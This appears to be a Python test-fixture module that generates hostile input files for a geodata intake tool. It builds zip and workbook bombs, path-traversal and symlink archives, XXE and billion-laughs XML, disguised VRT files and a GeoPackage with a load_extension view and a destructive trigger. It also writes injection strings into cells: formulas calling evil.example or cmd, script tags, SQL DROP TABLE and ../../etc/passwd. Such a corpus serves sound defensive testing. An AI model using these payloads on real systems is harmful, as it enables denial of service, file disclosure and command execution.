"""The hostile part of the intake corpus: bombs, traversal, entities, disguises, injections, broken files."""

from __future__ import annotations

import io
import json
import os
import sqlite3
import stat
import struct
import zipfile
import zlib
from pathlib import Path

from intake_files import (
    Truth,
    case,
    compound_file,
    csv_file,
    frame,
    geojson_features,
    gpx_text,
    grid,
    kml_text,
    sites,
    text,
    told,
    xlsx,
)

NOTHING = (0, 0, 0)
WGS = {"crs": "WGS84"}
SMALL = (30, 30, 0)
SECRET = "机密内容-不得读出"
"""Stands in files beside the corpus that no report may repeat."""

UNSUITABLE = "unsupported_format|file_unreadable|no_table"

Made = tuple[Path, Truth]
COLUMNS = ("id", "name", "county")


def _secret(folder: Path) -> Path:
    path = folder.parent / "secret.txt"
    path.write_text(f"名称,经度,纬度\n{SECRET},115.9,28.7\n", "utf-8")
    return path


# Bombs


def _zeros(megabytes: int) -> bytes:
    """A raw deflate stream of so many megabytes of blanks."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = press.compress(b" " * (1 << 20)) + press.flush(zlib.Z_FULL_FLUSH)  # no other part refers to it
    return one * megabytes + press.flush()


def _zip_raw(path: Path, name: str, packed: bytes, size: int, flag: int = 0) -> Path:
    """A zip of one deflated member whose headers say what we like."""
    coded = name.encode()
    facts = struct.pack("<HHHHHIIIHH", 20, flag, 8, 0, 0x5821, 0, len(packed), size, len(coded), 0)
    local = b"PK\3\4" + facts + coded + packed
    central = b"PK\1\2" + struct.pack("<H", 20) + facts + struct.pack("<HHHII", 0, 0, 0, 0, 0) + coded
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    path.write_bytes(local + central + end)
    return path


@case(
    "none", "", NOTHING, errors="file_too_large|unsafe_archive", ok=False, sentence="解压|过大|太大|MB|超过"
)
def zip_bomb_that_says_so(folder: Path) -> Path:
    return _zip_raw(folder / "a.zip", "a.csv", _zeros(600), 600 << 20)


@case("none", "", NOTHING, errors="file_too_large|unsafe_archive|file_unreadable", ok=False)
def zip_bomb_that_lies_about_its_size(folder: Path) -> Path:
    return _zip_raw(folder / "a.zip", "a.csv", _zeros(600), 1000)


def _swollen(folder: Path, cut: bytes, filler: bytes) -> Path:
    """A workbook whose sheet goes on for 640 MB behind some place."""
    path = xlsx(folder / "a.xlsx", grid(sites(6)))
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    before, _, after = parts.pop("xl/worksheets/sheet1.xml").partition(cut)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name, content in parts.items():
            new.writestr(name, content)
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            out.write(before + cut)
            for _ in range((640 << 20) // len(filler)):
                out.write(filler)
            out.write(after)
    return path


SWOLLEN = "unsafe_content|file_too_large|unsafe_archive|file_unreadable"


@case("none", "", NOTHING, errors=SWOLLEN, ok=False)
def workbook_bomb_of_an_endless_tag(folder: Path) -> Path:
    return _swollen(folder, b'<row r="3"', b" " * (1 << 20))


@case("none", "", (NOTHING, (6, 6, 0), (6, 5, 1)), errors=f"?{SWOLLEN} ?crs_doubtful ?required_missing")
def workbook_bomb_of_an_endless_text(folder: Path) -> Path:
    return _swollen(folder, "<t>东湖区社区".encode(), b"A" * (1 << 20))


@case("none", "", NOTHING, errors=SWOLLEN, ok=False)
def workbook_bomb_of_empty_rows(folder: Path) -> Path:
    return _swollen(folder, b"<sheetData>", b"<row/>" * 100_000)


@case("none", "", NOTHING, errors="file_too_large|unsafe_archive|file_unreadable", ok=False)
def kmz_bomb(folder: Path) -> Path:
    return _zip_raw(folder / "a.kmz", "doc.kml", _zeros(600), 2000)


@case("none", "", NOTHING, errors="file_too_large", ok=False, sentence="200 ?MB|300 ?MB|314")
def csv_of_three_hundred_megabytes(folder: Path) -> Path:
    path = csv_file(folder / "a.csv", grid(sites(6)))
    os.truncate(path, 300 << 20)
    return path


@case("none", "", NOTHING, errors="file_too_large|unsafe_archive", ok=False)
def zip_with_thirty_thousand_members(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "a.zip", "w") as file:
        for i in range(30_000):
            file.writestr(f"{i}.csv", "")
    return folder / "a.zip"


@case(
    "none", "", NOTHING, errors="file_too_large|truncated|no_table|header_missing|file_unreadable", ok=False
)
def csv_of_five_thousand_columns(folder: Path) -> Path:
    header = ["名称", "经度", "纬度", *(f"列{i}" for i in range(5000))]
    return csv_file(folder / "a.csv", [header, ["甲", 115.9, 28.7, *["x"] * 5000]])


@case("none", "", NOTHING, errors="unsafe_content|file_unreadable|file_too_large", ok=False)
def json_nested_a_hundred_thousand_deep(folder: Path) -> Path:
    deep = '{"type":"FeatureCollection","features":' + "[" * 100_000 + "]" * 100_000 + "}"
    (folder / "a.geojson").write_text(deep)
    return folder / "a.geojson"


# Names out of the archive


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(zipfile.ZipInfo(name), content)
    return path


def _csv_bytes(n: int = 30) -> bytes:
    return text(grid(sites(n))).encode("utf-8-sig")


TRAVERSAL = (NOTHING, SMALL)
"""Refused as a whole, or without the member."""


@case((("none", ""), ("stated", "WGS84")), None, TRAVERSAL, options=WGS, errors="unsafe_archive")
def zip_that_climbs_out(folder: Path) -> Path:
    return _zip(folder / "a.zip", {"好.csv": _csv_bytes(), "../../climbed.csv": _csv_bytes()})


@case((("none", ""), ("stated", "WGS84")), None, TRAVERSAL, options=WGS, errors="unsafe_archive")
def zip_with_an_absolute_name(folder: Path) -> Path:
    return _zip(folder / "a.zip", {"好.csv": _csv_bytes(), "/tmp/climbed-out.csv": _csv_bytes()})


@case((("none", ""), ("stated", "WGS84")), None, TRAVERSAL, options=WGS, errors="unsafe_archive")
def zip_with_drive_and_backslashes(folder: Path) -> Path:
    return _zip(folder / "a.zip", {"好.csv": _csv_bytes(), "C:\\climbed.csv": b"x", "..\\..\\c.csv": b"x"})


@case((("none", ""), ("stated", "WGS84")), None, TRAVERSAL, options=WGS, errors="unsafe_archive")
def zip_with_a_symbolic_link(folder: Path) -> Path:
    link = zipfile.ZipInfo("联系人.csv")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(folder / "a.zip", "w") as file:
        file.writestr("好.csv", _csv_bytes())
        file.writestr(link, str(_secret(folder)))
    return folder / "a.zip"


@case("stated", "WGS84", SMALL, options=WGS, errors="?unsafe_archive ?file_unreadable ?unsupported_format")
def folder_with_links_that_lead_out(folder: Path) -> Made:
    table = sites(30)
    top = folder / "上报"
    top.mkdir()
    csv_file(top / "好.csv", grid(table))
    (top / "链接.csv").symlink_to(_secret(folder))
    (top / "自己").symlink_to(top)
    return top, told(table, "county")


@case((("none", ""), ("stated", "WGS84")), None, (NOTHING, SMALL), options=WGS,
      errors="?unsafe_archive ?unsupported_format")  # fmt: skip
def zip_in_a_zip_in_a_zip(folder: Path) -> Path:
    inner = folder / "i.zip"
    data = _csv_bytes()
    for name in ("a.csv", "b.zip", "c.zip"):
        _zip(inner, {name: data})
        data = inner.read_bytes()
    inner.unlink()
    (folder / "a.zip").write_bytes(data)
    return folder / "a.zip"


@case("none", "", NOTHING, errors="no_table|unsupported_format", ok=False)
def zip_of_pictures(folder: Path) -> Path:
    return _zip(folder / "照片.zip", {"1.jpg": b"\xff\xd8\xff\xe0junk", "2.png": b"\x89PNG\r\n\x1a\njunk"})


# Entities


XXE = '<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{path}">]>'
LAUGHS = "<!DOCTYPE kml [<!ENTITY a '哈哈哈哈哈哈哈哈哈哈'>" + "".join(
    f"<!ENTITY {new} '{f'&{old};' * 20}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip
ENTITY = "unsafe_content|unsafe_archive|file_unreadable"


@case("none", "", NOTHING, errors=ENTITY, ok=False)
def kml_with_an_external_entity(folder: Path) -> Path:
    head = XXE.format(path=_secret(folder))
    table = sites(6)
    table["name"] = "PLACE"
    (folder / "a.kml").write_text(kml_text(table, head=head).replace("PLACE", "&x;"), "utf-8")
    return folder / "a.kml"


@case("none", "", NOTHING, errors=ENTITY, ok=False)
def gpx_of_billion_laughs(folder: Path) -> Path:
    table = sites(6)
    table["name"] = "PLACE"
    (folder / "a.gpx").write_text(gpx_text(table, head=LAUGHS).replace("PLACE", "&i;"), "utf-8")
    return folder / "a.gpx"


@case("none", "", NOTHING, errors=ENTITY, ok=False)
def workbook_with_an_external_entity(folder: Path) -> Path:
    path = xlsx(folder / "a.xlsx", grid(sites(6)))
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    head = XXE.format(path=_secret(folder)).replace("kml", "worksheet").encode()
    name = "xl/worksheets/sheet1.xml"
    sheet = parts[name].replace(b"<worksheet", head + b"<worksheet", 1)
    numbers = "张甲".encode("ascii", "xmlcharrefreplace")  # as openpyxl writes it where lxml is installed
    parts[name] = sheet.replace("张甲".encode(), b"&x;").replace(numbers, b"&x;")
    assert b"&x;" in parts[name] and b"DOCTYPE" in parts[name]
    path.unlink()
    return _zip(path, parts)


# Disguises


VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource relativeToVRT="0">{path}</SrcDataSource>'
    "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
)


def _vrt(folder: Path, name: str) -> Path:
    (folder / name).write_text(VRT.format(path=_secret(folder)), "utf-8")
    return folder / name


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def vrt_named_gpkg(folder: Path) -> Path:
    return _vrt(folder, "a.gpkg")


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def vrt_named_kml(folder: Path) -> Path:
    return _vrt(folder, "a.kml")


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def vrt_named_shp(folder: Path) -> Path:
    return _vrt(folder, "a.shp")


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def geojson_that_is_a_link_to_a_server(folder: Path) -> Path:
    (folder / "a.geojson").write_text("http://127.0.0.1:9/evil.json")
    return folder / "a.geojson"


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def pdf_named_xlsx(folder: Path) -> Path:
    (folder / "a.xlsx").write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type /Catalog>> endobj\n")
    return folder / "a.xlsx"


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def word_document(folder: Path) -> Path:
    parts = {"[Content_Types].xml": b"<Types/>", "word/document.xml": "<w>博爱家园</w>".encode()}
    return _zip(folder / "统计.docx", parts)


@case("none", "", NOTHING, errors=UNSUITABLE, ok=False)
def picture_named_csv(folder: Path) -> Path:
    (folder / "a.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20)
    return folder / "a.csv"


@case("none", "", NOTHING, errors="encrypted", ok=False, sentence="密码|加密")
def encrypted_workbook(folder: Path) -> Path:
    streams = {
        "EncryptionInfo": b"\4\0\4\0\x40\0\0\0<encryption/>",
        "EncryptedPackage": bytes(range(250)) * 20,
    }
    return compound_file(folder / "a.xlsx", streams)


@case("none", "", NOTHING, errors="encrypted", ok=False, sentence="密码|加密")
def encrypted_zip(folder: Path) -> Path:
    return _zip_raw(folder / "a.zip", "a.csv", bytes(range(200)), 500, flag=1)


@case("none", "", NOTHING, errors="file_unreadable|unsupported_format", ok=False)
def a_pipe_that_never_ends(folder: Path) -> Path:
    os.mkfifo(folder / "a.csv")
    return folder / "a.csv"


@case("none", "", NOTHING, errors="file_unreadable|unsupported_format|file_too_large", ok=False)
def a_device(folder: Path) -> Path:
    return Path("/dev/zero")


@case("none", "", NOTHING, errors="file_missing|file_unreadable", ok=False, sentence="不存在|找不到")
def a_file_that_is_not_there(folder: Path) -> Path:
    return folder / "没有.xlsx"


@case("none", "", NOTHING, errors="no_table|file_unreadable", ok=False)
def an_empty_folder(folder: Path) -> Path:
    (folder / "空").mkdir()
    return folder / "空"


# Broken files


@case("none", "", NOTHING, errors="file_unreadable", ok=False)
def workbook_cut_off(folder: Path) -> Path:
    path = xlsx(folder / "a.xlsx", grid(sites(30)))
    path.write_bytes(path.read_bytes()[:-3000])
    return path


@case("none", "", NOTHING, errors="file_unreadable", ok=False)
def geopackage_cut_off(folder: Path) -> Path:
    frame(sites(30), "WGS84", "EPSG:4326", columns=COLUMNS).to_file(folder / "a.gpkg", layer="aed")
    data = (folder / "a.gpkg").read_bytes()
    (folder / "a.gpkg").write_bytes(data[:5000])
    return folder / "a.gpkg"


@case((("none", ""), ("stated", "WGS84")), None, (NOTHING, (30, 0, 30)), sentence="dbf",
      errors="file_unreadable|sidecar_missing ?required_missing ?header_missing")  # fmt: skip
def shapefile_alone(folder: Path) -> Path:
    made = frame(sites(30), "WGS84", "EPSG:4326", columns=COLUMNS)
    made.to_file(folder / "a.shp", encoding="UTF-8")
    for suffix in (".dbf", ".shx"):
        (folder / "a.shp").with_suffix(suffix).unlink()
    return folder / "a.shp"


@case("none", "", NOTHING, errors="file_unreadable|unsupported_format", ok=False)
def kml_cut_off(folder: Path) -> Path:
    (folder / "a.kml").write_text(kml_text(sites(30))[:-400], "utf-8")
    return folder / "a.kml"


@case((("none", ""), ("stated", "WGS84")), None, (NOTHING, SMALL, (30, 29, 1)), options=WGS,
      errors="decode_error", codes="decode_error", sentence="解码")  # fmt: skip
def csv_with_two_encodings(folder: Path) -> Path:
    lines = text(grid(sites(30))).splitlines()
    raw = [line.encode("gbk" if i == 16 else "utf-8") for i, line in enumerate(lines)]
    raw[16] = raw[16].replace("甲".encode("gbk"), b"\xff\xff")
    (folder / "a.csv").write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(raw))
    return folder / "a.csv"


@case((("none", ""), ("stated", "WGS84")), None, (NOTHING, SMALL), options=WGS,
      errors="?file_unreadable ?decode_error ?unsupported_format")  # fmt: skip
def csv_with_nul_bytes(folder: Path) -> Path:
    data = _csv_bytes().replace("张甲".encode(), "张\0甲".encode())
    (folder / "a.csv").write_bytes(data)
    return folder / "a.csv"


@case((("none", ""), ("stated", "WGS84")), None, (NOTHING, (30, 29, 1), (29, 29, 0), SMALL), options=WGS,
      errors="?file_unreadable ?required_missing ?value_invalid ?decode_error ?coordinate_missing",
      codes="")  # fmt: skip
def csv_with_an_open_quote(folder: Path) -> Path:
    lines = text(grid(sites(30))).splitlines()
    lines[-1] = lines[-1].replace("张", '"张').rsplit('"', 1)[0] + '"张'
    (folder / "a.csv").write_text("\n".join(lines), "utf-8")
    return folder / "a.csv"


@case("stated", "WGS84", (31, 30, 1), errors="coordinate_missing|coordinate_invalid", options=WGS)
def geojson_with_a_feature_without_geometry(folder: Path) -> Made:
    table = sites(31)
    features = geojson_features(table)
    features[30]["geometry"] = None
    features[30]["properties"] = {"名称": "甲号柜"}
    content = {"type": "FeatureCollection", "features": features}
    (folder / "a.geojson").write_text(json.dumps(content, ensure_ascii=False), "utf-8")
    return folder / "a.geojson", told(table[:30], "county")


@case("none", "", NOTHING, errors="file_unreadable|no_table|unsupported_format", ok=False)
def json_of_something_else(folder: Path) -> Path:
    (folder / "a.geojson").write_text('{"code": 0, "data": [1, 2, 3]}')
    return folder / "a.geojson"


@case("stated", "WGS84", SMALL)
def geopackage_with_triggers_and_views(folder: Path) -> Made:
    table = sites(30)
    path = folder / "a.gpkg"
    frame(table, "WGS84", "EPSG:4326", columns=COLUMNS).to_file(path, layer="aed")
    store = sqlite3.connect(path)
    store.execute(
        "CREATE VIEW evil AS SELECT load_extension('evil.so') AS 名称 FROM aed, aed AS b, aed AS c, aed AS d"
    )
    store.execute(
        "CREATE TRIGGER boom AFTER UPDATE ON gpkg_contents BEGIN DELETE FROM aed; END",
    )
    store.commit()
    store.close()
    return path, told(table, "county")


# Injections: the rows come in, as plain text


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)


@case("stated", "WGS84", SMALL, options=WGS)
def formulas_in_names_of_a_workbook(folder: Path) -> Made:
    table = sites(30)
    table.loc[:4, "name"] = list(FORMULAS)
    return xlsx(folder / "a.xlsx", grid(table)), told(table, "county")


@case("stated", "WGS84", SMALL, options=WGS)
def formulas_in_names_of_a_csv(folder: Path) -> Made:
    table = sites(30)
    table.loc[:4, "name"] = list(FORMULAS)
    return csv_file(folder / "a.csv", grid(table)), told(table, "county")


@case("stated", "WGS84", SMALL, options=WGS)
def markup_and_statements_in_cells(folder: Path) -> Made:
    table = sites(30)
    table.loc[0, "name"] = "<script>alert(1)</script>社区"
    table.loc[1, "name"] = "<img src=x onerror=alert(1)>学校"
    table.loc[2, "name"] = "'; DROP TABLE sites; --"
    table.loc[3, "name"] = "{{7*7}}${7*7}%s%n医院"
    table.loc[4, "keeper"] = "javascript:alert(1)"
    return csv_file(folder / "a.csv", grid(table)), told(table, "county", "keeper")


@case("stated", "WGS84", SMALL, options=WGS)
def headers_with_markup_formulas_and_paths(folder: Path) -> Made:
    table = sites(30)
    rows = grid(table, columns=("id", "name", "county", "lon", "lat"))
    rows = [[*row, "甲", "乙", "丙"] for row in rows]
    rows[0][5:] = ["=1+1", "<script>alert(1)</script>", "../../etc/passwd"]
    table["extras"] = [{"=1+1": "甲", "<script>alert(1)</script>": "乙", "../../etc/passwd": "丙"}] * 30
    return xlsx(folder / "a.xlsx", rows), told(table, "extras")


@case("stated", "WGS84", SMALL, options=WGS)
def invisible_characters_in_names(folder: Path) -> Made:
    table = sites(30)
    rows = grid(table)
    rows[1][1] = "\u200b" + rows[1][1] + "﻿ "
    rows[2][1] = rows[2][1] + "　\u00a0"
    rows[3][3] = "\u200b" + rows[3][3]
    return csv_file(folder / "a.csv", rows), told(table, "county")


@case((("stated", "WGS84"), ("none", "")), None, ((30, 30, 0), (30, 29, 1), NOTHING), options=WGS,
      errors="?value_invalid ?file_too_large ?truncated ?file_unreadable")  # fmt: skip
def a_cell_of_a_million_characters(folder: Path) -> Path:
    rows = grid(sites(30))
    rows[3][5] = "长" * 1_000_000
    return csv_file(folder / "a.csv", rows)


@case("stated", "WGS84", ((30, 30, 0), (30, 28, 2)), options=WGS, errors="?value_invalid")
def ids_that_look_like_paths(folder: Path) -> Path:
    rows = grid(sites(30))
    rows[3][0], rows[4][0] = "../../../etc/passwd", "a\tb\nc"
    return csv_file(folder / "a.csv", rows)


@case("stated", "WGS84", SMALL, options=WGS)
def the_same_header_three_times(folder: Path) -> Made:
    table = sites(30)
    rows = [[*row, "甲", "乙", None] for row in grid(table)]
    rows[0][-3:] = ["备注", "备注", None]
    return xlsx(folder / "a.xlsx", rows), told(table, "county", "keeper")


@case("none", "", NOTHING, errors="file_unreadable|unsupported_format|no_table|unsafe_archive", ok=False)
def zip_with_trailing_garbage_only(folder: Path) -> Path:
    out = io.BytesIO(b"PK\3\4" + bytes(range(250)) * 8)
    (folder / "a.zip").write_bytes(out.getvalue())
    return folder / "a.zip"
